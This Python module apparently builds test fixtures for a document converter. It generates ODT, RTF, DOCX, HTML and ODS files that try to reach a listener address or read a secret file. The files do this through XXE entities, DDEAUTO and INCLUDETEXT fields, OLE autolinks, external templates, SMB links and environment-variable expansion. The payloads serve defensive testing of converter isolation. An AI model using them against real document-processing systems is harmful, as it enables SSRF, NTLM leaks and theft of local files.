"""Office files that reach out: each names an address that a converter might ask for.

Made for one base address (a listener of a test) and one secret file.  What they name:
pictures, sections, templates, DDE and OLE links, forms, entities, styles, scripts and
events, by http, https, dav, ftp, smb and file addresses, also with an environment variable
of the converter's host in the address.  Nothing of it may ever be asked for or read.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from .sheets import zipped

_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
    ' xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    ' xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
    ' xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
    ' xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:xforms="http://www.w3.org/2002/xforms" office:version="1.2"'
)
_SIZE = 'svg:width="2cm" svg:height="2cm" text:anchor-type="paragraph"'
_LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
ODT = "application/vnd.oasis.opendocument.text"


def _framed(element: str) -> str:
    """A frame around an element in which `` @`` stands for its link."""
    linked = element.replace(" @", f' xlink:href="@" {_LINK}')
    return f"<text:p><draw:frame {_SIZE}>{linked}</draw:frame></text:p>"


_BODIES = {
    "image": _framed("<draw:image @/>"),
    "section": (
        f'<text:section text:name="s"><text:section-source xlink:href="@" {_LINK}/>'
        "<text:p>x</text:p></text:section>"
    ),
    "section-filter": (
        f'<text:section text:name="s"><text:section-source xlink:href="@" {_LINK}'
        ' text:filter-name="Text (encoded)"/><text:p>x</text:p></text:section>'
    ),
    "dde": (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d"'
        ' office:dde-application="soffice" office:dde-topic="@" office:dde-item="a"'
        ' office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p><text:dde-connection text:connection-name="d">x</text:dde-connection></text:p>'
    ),
    "object": _framed("<draw:object @/>"),
    "ole": _framed("<draw:object-ole @/>"),
    "plugin": _framed('<draw:plugin @ draw:mime-type="video/mp4"/>'),
    "frame": _framed("<draw:floating-frame @/>"),
    "applet": _framed('<draw:applet @ draw:code="A"/>'),
    "form": (
        '<office:forms form:automatic-focus="true"><form:form form:name="f" xlink:href="@"'
        ' form:method="post"><form:image-frame xml:id="c" form:id="c" form:image-data="@"/>'
        "</form:form></office:forms><text:p>x"
        f'<draw:control {_SIZE} draw:control="c"/></text:p>'
    ),
    "xforms": (
        '<office:forms><xforms:model><xforms:instance src="@"/><xforms:submission id="s"'
        ' action="@" method="post"/></xforms:model></office:forms><text:p>x</text:p>'
    ),
    "event": (
        "<office:scripts><office:event-listeners><script:event-listener"
        ' script:language="ooo:script" script:event-name="dom:load" xlink:href="@"/>'
        "</office:event-listeners></office:scripts><text:p>x</text:p>"
    ),
    "table": (
        '<table:table table:name="t"><table:table-source xlink:href="@" table:table-name="a"'
        ' xlink:type="simple"/><table:table-column/><table:table-row><table:table-cell>'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    ),
    "bibliography": (
        '<text:p><text:database-display text:database-name="@" text:table-name="t"'
        ' text:column-name="c">x</text:database-display></text:p>'
    ),
}
"""Bodies of OpenDocument texts; ``@`` stands for the address."""

_ADDRESSES = {
    "http": "http://{host}/{name}",
    "https": "https://{host}/{name}",
    "dav": "vnd.sun.star.webdav://{host}/{name}",
    "davs": "vnd.sun.star.webdavs://{host}/{name}",
    "ftp": "ftp://{host}/{name}",
    "smb": "smb://{host}/share/{name}",
    "unc": "file://{host}/share/{name}",
    "file": "{secret}",
    "env": "http://{host}/${{HOME}}/$(inst)/vnd.sun.star.expand:$SECRET/{name}",
    "expand": "vnd.sun.star.expand:http://{host}/${{$BRAND_BASE_DIR/x:$SECRET}}",
    "package": "vnd.sun.star.pkg://http:%2F%2F{host}%2F{name}/a",
    "zip": "vnd.sun.star.zip://http:%2F%2F{host}%2F{name}/a",
    "tdoc": "vnd.sun.star.hier:/http://{host}/{name}",
}


@dataclass(frozen=True)
class Reaching:
    """A file's name and its bytes."""

    name: str
    payload: bytes


def _odt(body: str, *, styles: str = "", meta: str = "", prolog: str = "") -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content {_ODF}>'
        f"<office:automatic-styles>{styles}</office:automatic-styles><office:body><office:text>"
        f"{body}</office:text></office:body></office:document-content>"
    )
    members = {
        "mimetype": ODT.encode(),
        "content.xml": content.encode(),
        "meta.xml": (
            f'<?xml version="1.0"?><office:document-meta {_ODF}><office:meta>{meta}'
            "</office:meta></office:document-meta>"
        ).encode(),
        "META-INF/manifest.xml": (
            '<?xml version="1.0"?><manifest:manifest'
            ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}"/>'
            '<manifest:file-entry manifest:full-path="content.xml"'
            ' manifest:media-type="text/xml"/><manifest:file-entry'
            ' manifest:full-path="meta.xml" manifest:media-type="text/xml"/></manifest:manifest>'
        ).encode(),
    }
    return zipped(members)


def _opendocuments(addresses: dict[str, str]) -> Iterator[Reaching]:
    http = addresses["http"]
    for name, body in _BODIES.items():
        yield Reaching(f"{name}.odt", _odt(body.replace("@", http)))
    for scheme, address in addresses.items():
        if scheme != "http":
            body = (_BODIES["image"] + _BODIES["section"]).replace("@", address)
            yield Reaching(f"by-{scheme}.odt", _odt(body))
    yield Reaching(
        "template.odt",
        _odt("<text:p>x</text:p>", meta=f'<meta:template xlink:href="{http}" {_LINK}/>'
             f'<meta:auto-reload xlink:href="{http}" meta:delay="PT0S"/>'),
    )  # fmt: skip
    fill = (
        '<style:style style:name="P" style:family="paragraph"><style:paragraph-properties>'
        f'<style:background-image xlink:href="{http}" {_LINK}/>'
        "</style:paragraph-properties></style:style>"
    )
    yield Reaching("background.odt", _odt('<text:p text:style-name="P">x</text:p>', styles=fill))
    for kind, target in (("entity", http), ("entity-file", addresses["file"])):
        prolog = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]>'
        yield Reaching(f"{kind}.odt", _odt("<text:p>&x;</text:p>", prolog=prolog))
    yield Reaching(
        "doctype.odt", _odt("<text:p>x</text:p>", prolog=f'<!DOCTYPE a SYSTEM "{http}">')
    )


def _rich_texts(addresses: dict[str, str]) -> Iterator[Reaching]:
    for scheme in ("http", "ftp", "unc", "file", "env"):
        address = addresses[scheme].replace("\\", "\\\\")
        for field in ("INCLUDETEXT", "INCLUDEPICTURE"):
            switch = " \\\\d" if field == "INCLUDEPICTURE" else ""
            instruction = f'{field} "{address}"{switch}'
            yield Reaching(f"{field.lower()}-{scheme}.rtf", _field(instruction))
    http = addresses["http"]
    for name, instruction in (
        ("dde", f'DDEAUTO soffice "{http}" a'),
        ("link", f'LINK Word.Document "{http}" a \\\\a \\\\r'),
        ("import", f'IMPORT "{http}"'),
        ("database", f'DATABASE \\\\c "{http}" \\\\s "a"'),
        ("hyperlink", f'HYPERLINK "{http}"'),
        ("rd", f'RD "{http}"'),
    ):
        yield Reaching(f"{name}.rtf", _field(instruction))
    yield Reaching("template.rtf", f"{{\\rtf1{{\\*\\template {http}}}x}}".encode())
    data = f"{{\\*\\objclass Word.Document}}{{\\*\\objdata {_linked(http)}}}"
    link = f"{{\\rtf1{{\\object\\objautlink\\rsltpict{data}}}x}}"
    yield Reaching("objautlink.rtf", link.encode())
    yield Reaching("nextfile.rtf", f"{{\\rtf1{{\\*\\nextfile {http}}}x}}".encode())


def _field(instruction: str) -> bytes:
    return f"{{\\rtf1 {{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt x}}}}\\par}}".encode()


def _linked(address: str) -> str:
    """An OLE 1 object that is a link (MS-OLEDS 2.2.6), in hexadecimal digits."""

    def counted(text: bytes) -> bytes:
        return (len(text) + 1).to_bytes(4, "little") + text + b"\0"

    head = (0x501).to_bytes(4, "little") + (1).to_bytes(4, "little")
    return (head + counted(b"Word.Document") + counted(address.encode()) + counted(b"a")).hex()


def reaching(host: str, secret: Path) -> list[Reaching]:
    """The files for a listener at ``host`` (with its port) and a file nobody may read."""
    addresses = {
        name: form.format(host=host, name=f"{name}.png", secret=secret.as_uri())
        for name, form in _ADDRESSES.items()
    }
    return [*_opendocuments(addresses), *_rich_texts(addresses)]


def others(host: str, secret: Path) -> list[Reaching]:
    """Files of kinds that need no converter, with what reaches out in theirs."""
    address, file = f"http://{host}/other.png", secret.as_uri()
    page = (
        f'<html><head><base href="{address}"><link rel="stylesheet" href="{address}">'
        f'<script src="{address}"></script></head><body background="{address}">'
        f'<p>x</p><img src="{address}"><iframe src="{file}"></iframe></body></html>'
    ).encode()
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="r{number}" Type="{office}/{kind}" Target="{target}"'
        ' TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            [("attachedTemplate", address), ("image", address), ("subDocument", file),
             ("oleObject", address), ("aFChunk", file), ("frame", address)]
        )
    )  # fmt: skip
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = (
        f'<w:document xmlns:w="{word}" xmlns:r="{office}"><w:body><w:altChunk r:id="r4"/>'
        '<w:subDoc r:id="r2"/><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>'
    )
    kinds = "http://schemas.openxmlformats.org/package/2006"
    docx = {
        "[Content_Types].xml": f'<Types xmlns="{kinds}/content-types"/>'.encode(),
        "word/document.xml": body.encode(),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{kinds}/relationships">{relations}</Relationships>'
        ).encode(),
    }
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]>'
    evil = {**docx, "word/document.xml": (entity + body.replace("<w:t>x", "<w:t>&x;")).encode()}
    sheet = _odt(f'<table:table table:name="t"><table:table-source xlink:href="{address}"/>'
                 "</table:table>")  # fmt: skip
    return [
        Reaching("page.doc", page),
        Reaching("page.html", page),
        Reaching("relations.docx", zipped(docx)),
        Reaching("entity.docx", zipped(evil)),
        Reaching("sheet.ods", sheet.replace(b"opendocument.text", b"opendocument.spreadsheet")),
    ]
